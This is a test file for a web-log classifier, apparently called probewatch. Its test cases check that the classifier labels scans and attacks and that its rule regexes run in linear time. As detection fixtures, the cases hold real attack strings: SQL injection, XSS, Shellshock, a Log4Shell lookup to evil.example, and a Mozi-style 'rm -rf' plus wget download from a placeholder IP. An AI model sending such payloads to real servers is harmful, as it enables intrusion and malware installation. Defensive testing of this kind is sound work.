import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseDetectorConfig } from '../../../lambdas/core/config.js';
import { BUILTIN_RULES, CATEGORY_INFO } from '../../../lambdas/core/rules/builtin.js';
import { Classifier, globTest } from '../../../lambdas/core/rules/engine.js';
import { MAX_REGEX_PROGRAM_SIZE, MAX_REGEX_REPEAT_SUM, regexProblem } from '../../../lambdas/core/rules/linear-regex.js';
import { record } from '../../support/records.js';

const classifier = new Classifier(BUILTIN_RULES);
const labelsOf = (c: Classifier, r: ReturnType<typeof record>) =>
  c
    .classify(r)
    .labels.map((l) => l.category)
    .sort();

type Case = [name: string, input: Parameters<typeof record>[0], expected: string[]];

const positives: Case[] = [
  ['Apache dummy connection', { ip: '127.0.0.1', request: 'OPTIONS * HTTP/1.0', status: 200, ua: '-' }, ['apache-internal-dummy-connection']],
  [
    'Apache dummy connection from ::1 with its user agent',
    { ip: '::1', request: 'OPTIONS * HTTP/1.0', ua: 'Apache/2.4.57 (Debian) (internal dummy connection)' },
    ['apache-internal-dummy-connection'],
  ],
  ['ELB health check', { ip: '10.0.1.5', request: 'GET /health HTTP/1.1', ua: 'ELB-HealthChecker/2.0' }, ['health-check']],
  [
    'kube-probe on a missing path is still a health check',
    { ip: '10.0.1.5', request: 'GET /nothing HTTP/1.1', status: 404, ua: 'kube-probe/1.29' },
    ['health-check'],
  ],
  ['health endpoint answered', { request: 'GET /healthz HTTP/1.1', status: 200 }, ['health-check']],
  ['idle connection closed with 408', { request: '-', status: 408, ua: '-' }, ['idle-connection']],
  ['missing static asset', { request: 'GET /img/logo.png HTTP/1.1', status: 404 }, ['static-asset']],
  ['CGI sweep', { request: 'GET /cgi-bin/test.cgi HTTP/1.1', status: 404 }, ['cgi-probe']],
  ['CGI test script (403)', { request: 'GET /cgi-bin/test-cgi HTTP/1.1', status: 403 }, ['cgi-probe']],
  ['PHP binary under cgi-bin', { request: 'GET /cgi-bin/php5-cli HTTP/1.1', status: 404 }, ['cgi-probe', 'php-probe']],
  ['phppath', { request: 'GET /phppath/php HTTP/1.1', status: 404 }, ['php-probe']],
  ['phpinfo', { request: 'GET /phpinfo.php HTTP/1.1', status: 404 }, ['php-probe']],
  ['WordPress login on a non-WordPress site', { request: 'GET /wp-login.php HTTP/1.1', status: 404 }, ['cms-probe']],
  ['WordPress under a sub-directory', { request: 'GET /blog/wp-includes/wlwmanifest.xml HTTP/1.1', status: 404 }, ['cms-probe']],
  ['Joomla component', { request: 'GET /index.php?option=com_content&view=x HTTP/1.1', status: 404 }, ['cms-probe']],
  ['Drupal changelog', { request: 'GET /CHANGELOG.txt HTTP/1.1', status: 404 }, ['cms-probe']],
  ['registration (seed)', { request: 'GET /user/register HTTP/1.1', status: 404 }, ['registration-probe']],
  ['registration in the query (seed)', { request: 'GET /index.php?do=/user/register/ HTTP/1.1', status: 404 }, ['registration-probe']],
  ['quick login (seed)', { request: 'GET /tools/quicklogin.one HTTP/1.1', status: 404 }, ['registration-probe']],
  ['phpMyAdmin', { request: 'GET /phpMyAdmin/index.php HTTP/1.1', status: 404 }, ['admin-interface-probe']],
  ['Tomcat manager', { request: 'GET /manager/html HTTP/1.1', status: 401 }, ['admin-interface-probe', 'brute-force']],
  ['.env', { request: 'GET /.env HTTP/1.1', status: 404 }, ['sensitive-file']],
  ['.env served!', { request: 'GET /.env HTTP/1.1', status: 200 }, ['sensitive-file']],
  ['.git config', { request: 'GET /.git/config HTTP/1.1', status: 403 }, ['sensitive-file']],
  ['percent-encoded .git', { request: 'GET /%2egit/config HTTP/1.1', status: 404 }, ['sensitive-file']],
  ['server-status from outside', { request: 'GET /server-status HTTP/1.1', status: 403 }, ['sensitive-file']],
  ['SQL dump', { request: 'GET /backup.sql HTTP/1.1', status: 404 }, ['sensitive-file']],
  ['401', { request: 'GET /private/ HTTP/1.1', status: 401 }, ['brute-force']],
  ['login POST that failed', { request: 'POST /wp-login.php HTTP/1.1', status: 200 }, ['brute-force']],
  ['traversal', { request: 'GET /static/../../app.py HTTP/1.1', status: 400 }, ['path-traversal']],
  ['traversal to /etc/passwd, encoded', { request: 'GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', status: 400 }, ['cgi-probe', 'path-traversal']],
  ['SQL injection', { request: "GET /item?id=1'+UNION+SELECT+password+FROM+users-- HTTP/1.1", status: 500 }, ['sqli']],
  ['XSS', { request: 'GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1', status: 200 }, ['xss']],
  ['Shellshock in the user agent', { request: 'GET /cgi-bin/status HTTP/1.1', status: 404, ua: '() { :; }; /bin/bash -c "id"' }, ['cgi-probe', 'shellshock']],
  ['Log4Shell in the user agent', { request: 'GET / HTTP/1.1', ua: '${jndi:ldap://evil.example/a}' }, ['log4shell']],
  ['obfuscated Log4Shell in the query', { request: 'GET /?x=%24%7B%24%7Blower:j%7Dndi:ldap://e/a%7D HTTP/1.1' }, ['log4shell']],
  ['phpunit eval-stdin', { request: 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', status: 404 }, ['rce-probe']],
  [
    'ThinkPHP invokefunction',
    { request: 'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1', status: 404 },
    ['rce-probe'],
  ],
  ['GPON router', { request: 'POST /GponForm/diag_Form?images/ HTTP/1.1', status: 404 }, ['rce-probe']],
  ['Mozi shell?cd', { request: 'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/Mozi.a HTTP/1.0', status: 404 }, ['rce-probe']],
  ['HNAP1', { request: 'GET /HNAP1/ HTTP/1.1', status: 404 }, ['rce-probe']],
  ['Struts OGNL', { request: 'GET /index.action?redirect:%25{(#a=1)} HTTP/1.1', status: 404 }, ['rce-probe']],
  ['web shell', { request: 'GET /wso.php HTTP/1.1', status: 404 }, ['webshell']],
  ['web shell command', { request: 'GET /uploads/x.php?cmd=id HTTP/1.1', status: 200 }, ['webshell']],
  ['malformed request line (seed)', { request: 'GET HTTP/1.1 HTTP/1.1', status: 400, ua: '-' }, ['malformed-request']],
  ['TLS bytes on plain HTTP', { request: '\\x16\\x03\\x01\\x00\\xa5\\x01', status: 400, ua: '-' }, ['malformed-request']],
  ['TRACE', { request: 'TRACE / HTTP/1.1', status: 405 }, ['malformed-request']],
  ['overlong URI', { request: `GET /${'A'.repeat(5000)} HTTP/1.1`, status: 414 }, ['malformed-request']],
  ['CONNECT', { request: 'CONNECT example.org:443 HTTP/1.1', status: 405 }, ['proxy-probe']],
  ['absolute URI to another host', { request: 'GET http://example.org/ HTTP/1.1', status: 404 }, ['proxy-probe']],
  ['Nikto', { request: 'GET / HTTP/1.1', ua: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' }, ['scanner-user-agent']],
  ['zgrab', { request: 'GET / HTTP/1.1', ua: 'Mozilla/5.0 zgrab/0.x' }, ['scanner-user-agent']],
  ['e-mail harvester', { request: 'GET / HTTP/1.1', ua: 'EmailCollector/1.0' }, ['bad-bot-user-agent']],
  ['MSIE 6 (seed)', { request: 'GET / HTTP/1.1', ua: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1;)' }, ['outdated-user-agent']],
];

const negatives: Case[] = [
  ['a normal page', { request: 'GET /about HTTP/1.1' }, []],
  ['a normal 404', { request: 'GET /old-page HTTP/1.1', status: 404 }, []],
  ['OPTIONS * from the internet is not the dummy connection', { ip: '198.51.100.1', request: 'OPTIONS * HTTP/1.0' }, []],
  ['the site really serves /cgi-bin/', { request: 'GET /cgi-bin/search.cgi HTTP/1.1', status: 200 }, []],
  ['the site really runs WordPress', { request: 'GET /wp-login.php HTTP/1.1', status: 200 }, []],
  ['WordPress asset served', { request: 'GET /wp-content/themes/x/style.css HTTP/1.1', status: 200 }, []],
  ['a real sign-up page', { request: 'GET /register HTTP/1.1', status: 200 }, []],
  ['a redirect is not probing', { request: 'GET /admin HTTP/1.1', status: 302 }, []],
  ['server-status scraped locally', { ip: '127.0.0.1', request: 'GET /server-status?auto HTTP/1.1', status: 200 }, []],
  ['ACME challenge', { request: 'GET /.well-known/acme-challenge/abc HTTP/1.1', status: 200 }, []],
  ['successful login POST (redirect)', { request: 'POST /login HTTP/1.1', status: 302 }, []],
  ['modern browser', { request: 'GET / HTTP/2.0', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36' }, []],
  ['MSIE 11 is not MSIE 1', { request: 'GET / HTTP/1.1', ua: 'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)' }, []],
  ['a JSON body in the query is not Shellshock', { request: 'GET /api?f={"a":1} HTTP/1.1' }, []],
  ['the referer is not evidence either way', { request: 'GET / HTTP/1.1', referer: 'https://www.example.com/' }, []],
];

describe('built-in rules', () => {
  for (const [name, input, expected] of positives) {
    it(`labels: ${name}`, () => assert.deepEqual(labelsOf(classifier, record(input)), [...expected].sort()));
  }
  for (const [name, input, expected] of negatives) {
    it(`leaves alone: ${name}`, () => assert.deepEqual(labelsOf(classifier, record(input)), expected));
  }

  it('every category in the issue is backed by at least one rule', () => {
    const have = new Set(BUILTIN_RULES.map((r) => r.category));
    const required = [
      'apache-internal-dummy-connection',
      'health-check',
      'static-asset',
      'cgi-probe',
      'php-probe',
      'cms-probe',
      'registration-probe',
      'admin-interface-probe',
      'sensitive-file',
      'brute-force',
      'path-traversal',
      'sqli',
      'xss',
      'shellshock',
      'log4shell',
      'rce-probe',
      'webshell',
      'malformed-request',
      'proxy-probe',
      'scanner-user-agent',
      'outdated-user-agent',
    ];
    for (const c of required) assert.ok(have.has(c), c);
  });

  it('every rule has an id, an explanation, and every non-benign category has alert wording', () => {
    const ids = new Set<string>();
    for (const r of BUILTIN_RULES) {
      assert.ok(!ids.has(r.id), `duplicate id ${r.id}`);
      ids.add(r.id);
      assert.ok(r.explain.length > 20, r.id);
      if (r.class !== 'benign') assert.ok(CATEGORY_INFO[r.category], `CATEGORY_INFO lacks ${r.category}`);
    }
  });

  it('scores only non-benign labels, and flags high-confidence signatures', () => {
    const c = classifier.classify(record({ request: 'GET /cgi-bin/x HTTP/1.1', status: 404, ua: '() { :; }; ping -c 1 192.0.2.1' }));
    assert.equal(c.score, 5 + 50);
    assert.equal(c.immediate?.category, 'shellshock');
    assert.equal(classifier.classify(record({ ip: '127.0.0.1', request: 'OPTIONS * HTTP/1.0' })).score, 0);
  });
});

describe('configuration-driven labels', () => {
  it('known routes turn a probe-looking 404 into a broken link, but not an exploit', () => {
    const c = new Classifier(BUILTIN_RULES, { knownRoutes: ['/wp-login.php', '/cgi-bin/*', '/api/*/register'] });
    assert.deepEqual(labelsOf(c, record({ request: 'GET /wp-login.php HTTP/1.1', status: 404 })), ['known-route']);
    assert.deepEqual(labelsOf(c, record({ request: 'GET /cgi-bin/test.cgi HTTP/1.1', status: 404 })), ['known-route']);
    assert.deepEqual(labelsOf(c, record({ request: 'GET /api/v2/register HTTP/1.1', status: 404 })), ['known-route']);
    assert.deepEqual(labelsOf(c, record({ request: 'GET /cgi-bin/x?a=../../etc/passwd HTTP/1.1', status: 404 })), ['known-route', 'path-traversal']);
    assert.deepEqual(labelsOf(c, record({ request: 'GET /xmlrpc.php HTTP/1.1', status: 404 })), ['cms-probe']);
  });

  it('allowlisted user agents cancel every finding', () => {
    const c = new Classifier(BUILTIN_RULES, { allowUserAgents: ['our-nightly-zap'] });
    assert.deepEqual(labelsOf(c, record({ request: 'GET /.env HTTP/1.1', status: 404, ua: 'OWASP ZAP (our-nightly-zap)' })), ['allowlisted']);
  });

  it('allowlisted CIDRs are recognised', () => {
    const c = new Classifier(BUILTIN_RULES, { allowCidrs: ['192.0.2.0/24'] });
    assert.ok(c.isAllowlisted('192.0.2.77'));
    assert.ok(!c.isAllowlisted('198.51.100.1'));
  });

  it('a user rule adds a category', () => {
    const c = new Classifier([
      ...BUILTIN_RULES,
      {
        id: 'internal-api',
        category: 'internal-api-probe',
        class: 'probing',
        severity: 'high',
        score: 30,
        explain: 'Our internal API is never called from outside',
        match: { path: { prefix: ['/internal/'] } },
      },
    ]);
    assert.deepEqual(labelsOf(c, record({ request: 'GET /internal/users HTTP/1.1', status: 200 })), ['internal-api-probe']);
  });
});

describe('rule regular expressions run in linear time (RE2)', () => {
  const userRule = (regex: string) => ({
    id: 'x',
    category: 'x',
    class: 'probing' as const,
    severity: 'low' as const,
    score: 1,
    explain: 'x',
    match: { path: { regex } },
  });

  const refused: [string, RegExp][] = [
    ['(x)\\1', /not a valid regular expression.*invalid escape/],
    ['(?=a)b', /not a valid regular expression.*Perl syntax/],
    ['(?<!a)b', /not a valid regular expression/],
    ['[]', /not a valid regular expression.*missing closing \]/],
    ['[^]', /not a valid regular expression.*missing closing \]/],
    ['a{1001}', /invalid repeat count/],
    ['(a{0,100}){0,100}', /invalid repeat count|too large/],
    ['a{0,1000}a{0,1000}a{0,1000}', new RegExp(`repetition counts add up to 3000, more than ${MAX_REGEX_REPEAT_SUM}`)],
    ['((abcd|cdef|efgh|ghij|ijkl){0,40}){0,25}', new RegExp(`instructions, at most ${MAX_REGEX_PROGRAM_SIZE}`)],
  ];
  for (const [re, why] of refused) it(`refuses ${re}`, () => assert.match(regexProblem(re) ?? 'accepted', why));

  // Patterns a backtracking engine could not run safely are fine on RE2.
  const accepted = ['(a+)+$', '.*x', 'a{2,}', '(a|aa)*b', '[]a]', 'msie [1-6]\\.', '^/php[0-9]?(-cli|-cgi)?$', '\\(\\)\\s{0,8}\\{'];
  for (const re of accepted) it(`accepts ${re}`, () => assert.equal(regexProblem(re), null));

  it('every built-in regex is valid RE2 (nothing in it needs backtracking)', () => {
    let checked = 0;
    for (const r of BUILTIN_RULES) {
      for (const m of [r.match, r.unless]) {
        for (const p of Object.values(m ?? {})) {
          if (p && typeof p === 'object' && 'regex' in p && typeof p.regex === 'string') {
            assert.equal(regexProblem(p.regex), null, r.id);
            checked++;
          }
        }
      }
    }
    assert.ok(checked > 0);
  });

  it('a classic catastrophic pattern in a user rule matches a hostile 100 KB path at once', { timeout: 10_000 }, () => {
    const c = new Classifier([userRule('^/(a+)+$')]);
    const start = Date.now();
    assert.deepEqual(labelsOf(c, record({ request: `GET /${'a'.repeat(100_000)}! HTTP/1.1` })), []);
    assert.deepEqual(labelsOf(c, record({ request: `GET /${'a'.repeat(100)} HTTP/1.1` })), ['x']);
    assert.ok(Date.now() - start < 2000, `${Date.now() - start} ms`);
  });

  it('a user rule with an unusable regex is refused when loaded, naming the field', () => {
    assert.throws(() => new Classifier([userRule('(x)\\1')]), /rule "x".match.path.regex is not a valid regular expression/);
    assert.throws(
      () => parseDetectorConfig({ rules: [userRule('ok'), userRule('[^]')] }, 'probewatch.yaml'),
      /probewatch\.yaml: rules\[1\]\.match\.path\.regex is not a valid regular expression/,
    );
    assert.throws(
      () => parseDetectorConfig({ rules: [{ ...userRule('x'), unless: { userAgent: { regex: 'a{0,1000}a{0,1000}a{0,1000}' } } }] }, 'c.yaml'),
      /c\.yaml: rules\[0\]\.unless\.userAgent\.regex repeats too much/,
    );
  });
});

describe('known-route globs match in linear time', () => {
  it('a star stands for any run of characters but "?"', () => {
    const t = globTest('/api/*/items');
    assert.ok(t('/api/42/items'));
    assert.ok(t('/api//items'), 'an empty run');
    assert.ok(t('/api/a/b/items'), 'across slashes, as before');
    assert.ok(!t('/api/42/items/x'));
    assert.ok(!t('/api/4?2/items'));
    assert.ok(!t('/api/items'), 'the pieces may not overlap');
    const many = globTest('/a/*/*/*/b');
    assert.ok(many('/a/x/y/z/b'));
    assert.ok(!many('/a/x/y/b'));
    assert.ok(globTest('*.php')('/index.php'));
    assert.ok(globTest('/x/**/y')('/x/1/2/y'));
  });

  it('/a/*/*/*/b on 4 KB paths takes microseconds (a backtracking regex took seconds)', { timeout: 10_000 }, () => {
    const c = new Classifier(BUILTIN_RULES, { knownRoutes: ['/a/*/*/*/b'] });
    const long = `/a/${'x/'.repeat(2000)}`;
    const start = Date.now();
    assert.ok(!labelsOf(c, record({ request: `GET ${long} HTTP/1.1`, status: 404 })).includes('known-route'));
    assert.ok(labelsOf(c, record({ request: `GET ${long}b HTTP/1.1`, status: 404 })).includes('known-route'));
    for (let i = 0; i < 200; i++) assert.ok(!globTest('/a/*/*/*/b')(`${long}${i}`));
    assert.ok(Date.now() - start < 1000, `${Date.now() - start} ms`);
  });
});

describe('every rule on adversarial input', () => {
  // Hostile lines of 100 KB go through every rule. Matching is linear by construction (RE2 and
  // plain string tests); this proves every rule completes on input built to defeat backtracking,
  // within the runner's timeout rather than a timed assertion.
  it('every rule completes on 100 KB adversarial lines', { timeout: 60_000 }, () => {
    const n = 100_000;
    const payloads = [
      'a'.repeat(n),
      '/'.repeat(n),
      '.'.repeat(n),
      '%'.repeat(n),
      '%2e'.repeat(n / 3),
      '../'.repeat(n / 3),
      '${'.repeat(n / 2),
      '() '.repeat(n / 3),
      `${'msie '.repeat(n / 5)}`,
      `${'union '.repeat(n / 6)}x`,
      `(${'a'.repeat(n - 2)}`,
      `${'-'.repeat(n)}!`,
      '&cmd='.repeat(n / 5),
      '\\x16'.repeat(n / 4),
    ];
    let labelled = 0;
    for (const p of payloads) {
      for (const r of [
        record({ request: `GET /${p} HTTP/1.1`, status: 404 }),
        record({ request: `GET /?q=${p} HTTP/1.1`, status: 404 }),
        record({ request: 'GET / HTTP/1.1', ua: p }),
        record({ request: 'GET / HTTP/1.1', referer: p }),
      ]) {
        const c = classifier.classify(r);
        labelled += c.labels.length;
      }
    }
    assert.ok(labelled > 0, 'the hostile requests were classified (overlong lines at least)');
  });
});
